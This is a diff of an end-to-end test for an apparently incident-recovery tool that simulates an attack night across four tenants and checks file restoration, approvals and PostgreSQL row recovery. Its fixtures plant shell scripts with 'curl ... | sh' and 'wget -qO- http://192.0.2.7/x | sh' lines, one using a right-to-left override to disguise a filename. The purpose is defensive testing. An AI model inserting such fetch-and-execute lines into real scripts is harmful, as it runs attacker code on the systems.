@@ -1,6 +1,5 @@
 import assert from 'node:assert/strict'
 import { execFileSync, spawnSync } from 'node:child_process'
-import { createHash } from 'node:crypto'
 import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
@@ -11,35 +10,52 @@ import type { Page } from 'playwright-core'
 
 import { needProgram } from '../debian.ts'
 import { done, entriesOf, gone, sign, work } from './by-hand.ts'
-import { type Night, type Person, startNight } from './night.ts'
+import { type DrillNight, type Planted, startDrillNight } from './drill-night.ts'
+import { handedBack, madeByAttacker, notAsWanted, sha256 } from './handed-back.ts'
+import type { Person } from './night.ts'
+import { recoverRows, rowsHandedBack } from './postgres-by-hand.ts'
 import { violations } from './running-console.ts'
 
 /** A whole exercise, from the declaration to the evidence on a stick, in two browsers. Each test needs those before it. */
 const skip = needProgram('chromium', 'chromium')
+const noPostgres = needProgram('pg_createcluster', 'postgresql')
 const tenants = ['nordwind', 'alpenblick', 'hafenkontor', 'lindenhof'] as const
 const problems: string[] = []
-let night: Night
+let night: DrillNight
 let folder: string
 let lea: Person
 let otto: Person
 let german: Page
 
 const example = (name: string): string => fileURLToPath(new URL(`../../examples/${name}`, import.meta.url))
-const prose = (about: string): string =>
-  `${about}\n${'Sehr geehrte Damen und Herren, wie besprochen.\n'.repeat(40)}`
+
+/** Three cases near the incident: a program that somebody needs, one that the attacker changed, one that he brought. */
+const planted: readonly Planted[] = [
+  {
+    tenant: 'nordwind',
+    path: 'office/tools/start.sh',
+    before: '#!/bin/sh\n# starts the shop\ncd /srv/shop\nexec node server.js\n',
+    after:
+      '#!/bin/sh\n# starts the shop\ncd /srv/shop\ncurl -s http://192.0.2.7/\u202efdp.exe | sh\nexec node server.js\n',
+  },
+  {
+    tenant: 'alpenblick',
+    path: 'office/tools/deploy.sh',
+    before: '#!/bin/sh\nrsync -a build/ /srv/www/\n',
+    after: '#!/bin/sh\nrsync -a build/ /srv/www/\nwget -qO- http://192.0.2.7/x | sh\n',
+  },
+  {
+    tenant: 'hafenkontor',
+    path: 'office/tools/update.sh',
+    after: '#!/bin/sh\nwget -qO- http://192.0.2.7/x | sh\n',
+  },
+]
 
 before(async () => {
   if (skip !== false) return
-  night = await startNight({
-    before: {
-      'alpenblick/deploy.sh': '#!/bin/sh\nrsync -a build/ /srv/www/\n',
-      'hafenkontor/offer.txt': prose('Hafen'),
-      'lindenhof/offer.txt': prose('Linde'),
-    },
-    after: {
-      'alpenblick/deploy.sh': '#!/bin/sh\nrsync -a build/ /srv/www/\nwget -qO- http://192.0.2.7/x | sh\n',
-      'hafenkontor/update.sh': '#!/bin/sh\nwget -qO- http://192.0.2.7/x | sh\n',
-    },
+  night = await startDrillNight({
+    planted,
+    withDatabases: noPostgres === false,
     workplace(site) {
       const probes = ['files1:445', 'dir1:389', 'mx1:25', 'mbox1:993', 'db1:5432', 'app1:443', 'web1:443']
       const file = site.file(
@@ -58,7 +74,7 @@ before(async () => {
     viewport: { width: 390, height: 844 },
   })
   for (const page of [lea.page, otto.page, german]) {
-    page.setDefaultTimeout(20_000)
+    page.setDefaultTimeout(90_000)
     page.on('console', (message) => {
       // A case without a plan answers 404 to whoever asks for it, and browsers say so.
       const isNoPlan = message.location().url.endsWith('/api/cases/night-1/plan')
@@ -186,6 +202,15 @@ test('restore points are chosen, and everything is restored, verified and scanne
   await clean(page, '07-restart')
 })
 
+test(
+  "the shared PostgreSQL is back to just before the attack, and a customer's rows are in the case",
+  { skip: skip || noPostgres },
+  async () => {
+    const databases = night.databases ?? assert.fail('the shared PostgreSQL was played')
+    await recoverRows(night.site, databases, 'night-1')
+  },
+)
+
 test('three programs of that night are decided, one of them by two people', { skip }, async () => {
   const { page } = lea
   await open(page, 'jobs')
@@ -243,6 +268,7 @@ test('two people sign the first customer, who is released alone', { skip }, asyn
   for (const { page } of [lea, otto]) {
     await open(page, 'approvals')
     const card = page.getByRole('article').filter({ hasText: 'Release nordwind' })
+    if (night.databases !== undefined) await card.getByText(/not as in the clean state/).waitFor()
     if (page === lea.page) await clean(page, '09-approvals')
     await sign(page, card)
   }
@@ -276,22 +302,29 @@ test('then the rest, and everybody gets the own data back', { skip }, async () =
   for (const unit of rest) await done(lea.page, 'release', { title: 'Release', unit })
   for (const unit of tenants) await done(lea.page, 'handBack', { title: 'Hand back', unit })
   await clean(lea.page, '10-released')
-  const given = readdirSync(join(folder, 'work/cases/night-1/handed-back'), { recursive: true }) as string[]
-  for (const unit of tenants)
-    assert.ok(
-      given.some((path) => path.includes(unit)),
-      unit,
-    )
-  const back = (name: string): string | undefined => {
-    const path = given.find((one) => one.endsWith(name))
-    return path === undefined
-      ? undefined
-      : readFileSync(join(folder, 'work/cases/night-1/handed-back', path), 'utf8')
-  }
-  assert.match(back('start.sh') ?? '', /192\.0\.2\.7/, 'two people wanted the newest')
-  assert.equal(back('deploy.sh'), '#!/bin/sh\nrsync -a build/ /srv/www/\n', 'the version before')
-  assert.equal(back('update.sh'), undefined, 'left out')
+  const [start, deploy, update] = planted.map(({ tenant, path }) => `/srv/share/${tenant}/${path}`)
+  const wanted = new Map(night.restorable)
+    .set(start ?? '', sha256(planted[0]?.after ?? ''))
+    .set(deploy ?? '', sha256(planted[1]?.before ?? ''))
+  wanted.delete(update ?? '')
+  assert.ok(wanted.size > 1_000, `${wanted.size} files of ten nights`)
+  const back = handedBack(join(folder, 'work/cases/night-1/handed-back'))
+  assert.deepEqual(notAsWanted(wanted, back), [], 'every file that can come back is what it was')
+  assert.deepEqual(madeByAttacker(night.nights.ledger, back), [], 'nothing that the attacker made')
+  assert.equal(back.has(update ?? ''), false, 'left out')
 })
+
+test(
+  'the rows of the customer are those of the moment before, and nobody else is among them',
+  { skip: skip || noPostgres },
+  async () => {
+    const { truth } = night.databases ?? assert.fail('the shared PostgreSQL was played')
+    const score = await rowsHandedBack(truth, folder, 'night-1')
+    assert.ok(score.rows > 100, `${score.rows} rows`)
+    const { exact, foreign, unknown } = score
+    assert.deepEqual({ exact, foreign, unknown }, { exact: score.rows, foreign: 0, unknown: 0 })
+  },
+)
 
 test('a duty is met with its receipt, which stays where it is', { skip }, async () => {
   const { page } = lea
@@ -313,7 +346,7 @@ test('a duty is met with its receipt, which stays where it is', { skip }, async 
   await open(page, 'clocks?show=met')
   const met = page.locator('tbody tr').filter({ hasText: 'gdpr-33-1' })
   await met.locator('summary').click()
-  await met.getByText(createHash('sha256').update(readFileSync(receipt)).digest('hex')).waitFor()
+  await met.getByText(sha256(readFileSync(receipt))).waitFor()
   await clean(page, '12-clocks')
 })
 
